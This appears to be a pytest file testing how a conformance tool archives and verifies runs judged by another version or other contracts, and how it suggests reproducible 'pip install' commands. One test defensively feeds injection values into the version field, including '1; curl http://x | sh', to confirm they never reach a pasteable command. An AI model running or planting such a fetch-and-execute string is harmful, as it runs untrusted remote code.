"""An archive of a run that another version or other contracts judged says so, and what to do."""

from __future__ import annotations

from types import SimpleNamespace

import pytest
from click.testing import CliRunner

from conformance import __version__
from conformance.cli.command import command
from conformance.jobs.evidence.another_judge import another_judge, what_to_do
from conformance.jobs.evidence.archiving import archive_run, verify_archive
from conformance.model.errors import BadOption
from conformance.verdicts.decisions import JUDGEMENT
from tests.jobs.evidence.test_archiving import CONTRACTS, contents, red, repacked  # noqa: F401 - a fixture
from tests.record.lines import rewritten


def record(version=__version__, judgement=JUDGEMENT):
    header = {"suite": {"version": version, "judgement": judgement}, "contracts": {"customers": {"sha256": "ab" * 32}}}
    return SimpleNamespace(header=header)


@pytest.fixture
def older(red, tmp_path):  # noqa: F811 - a fixture
    """The run as version 0.0.9 would have recorded it."""
    (tmp_path / "run").mkdir()
    suite = {"suite": {"version": "0.0.9", "judgement": JUDGEMENT}}
    lines = rewritten(red / "run.jsonl", lambda lines: [{**lines[0], **suite}, *lines[1:]])
    (tmp_path / "run" / "run.jsonl").write_bytes(lines)
    return tmp_path / "run"


def test_who_judged_with_what_is_told_with_what_to_do():
    """Nothing is said where it was this suite with these contracts."""
    assert ("", "") == (another_judge(record(), ()), what_to_do(record(), (), "verify"))
    assert (
        f"judged by version 0.0.9 (rules {JUDGEMENT}), and this is {__version__} (rules {JUDGEMENT}) and "
        "judged by other contracts than these (customers abababababab)"
    ) == another_judge(record("0.0.9"), ("customers",))
    assert "verify it with what judged it: pip install masstack-conformance==0.0.9" == what_to_do(
        record("0.0.9"), ("customers",), "verify"
    )
    assert "archive it with what judged it: --specs DIR names the folder of its contracts" == what_to_do(
        record(), ("customers",), "archive"
    )


@pytest.mark.parametrize("version", ["1; curl http://x | sh", "", "9" * 50, "1.0\n::error::x"])
def test_what_is_no_version_goes_into_no_command(version):
    """A command is there to be pasted."""
    assert "verify it with what judged it" == what_to_do(record(version), (), "verify")
    assert "\n" not in another_judge(record(version), ())


def test_an_archive_of_another_version_says_so_in_its_one_line(older, tmp_path):
    """It is judged again; a report may be anything then, since those were not compared."""
    says, _ = archive_run(older, tmp_path / "a.zip", CONTRACTS, acceptance=False)
    files = {**contents(tmp_path / "a.zip"), "report.html": b"<h1>CONFORMANT</h1>"}
    verified = verify_archive(repacked(files, tmp_path / "b.zip"), CONTRACTS)

    assert says.endswith("archive it with what judged it: pip install masstack-conformance==0.0.9")
    assert () == verified.differences
    assert "reports not compared: judged by version 0.0.9" in verified.says
    assert verified.says.endswith("verify it with what judged it: pip install masstack-conformance==0.0.9")


def test_no_acceptance_is_archived_of_another_version(older, tmp_path):
    """What judged it archives it."""
    with pytest.raises(BadOption, match=r"0\.0\.9 .*pip install masstack-conformance==0\.0\.9"):
        archive_run(older, tmp_path / "a.zip", CONTRACTS, acceptance=True)


def test_other_contracts_are_not_called_a_forgery(red, tmp_path):  # noqa: F811 - a fixture
    """It is not verified all the same: contracts that came along may demand anything."""
    (tmp_path / "run").mkdir()

    def other(lines):
        contracts = lines[0]["contracts"]
        return [
            {**lines[0], "contracts": {**contracts, "customers": {**contracts["customers"], "sha256": "ab" * 32}}},
            *lines[1:],
        ]

    (tmp_path / "run" / "run.jsonl").write_bytes(rewritten(red / "run.jsonl", other))
    says, _ = archive_run(tmp_path / "run", tmp_path / "a.zip", CONTRACTS, acceptance=False)
    verified = verify_archive(tmp_path / "a.zip", CONTRACTS)
    advice = "--specs DIR names the folder of its contracts"

    assert says.endswith(
        f"judged by other contracts than these (customers abababababab); archive it with what judged it: {advice}"
    )
    assert ["contract-customers.json"] == [one.what for one in verified.differences]
    assert verified.judged_elsewhere.endswith(f"verify it with what judged it: {advice}")


def test_the_last_line_of_verify_says_who_judged(older, tmp_path):
    """And of archive, with kind and verdict."""
    archived = CliRunner().invoke(command, ["archive", str(older), "--evidence", "--out", str(tmp_path / "a.zip")])
    verified = CliRunner().invoke(command, ["verify", str(tmp_path / "a.zip")])

    assert "evidence · SANDBOX · NOT CONFORMANT" in archived.output
    assert "0.0.9" in archived.output.splitlines()[-1]
    assert "pip install masstack-conformance==0.0.9" in verified.output.splitlines()[-1]
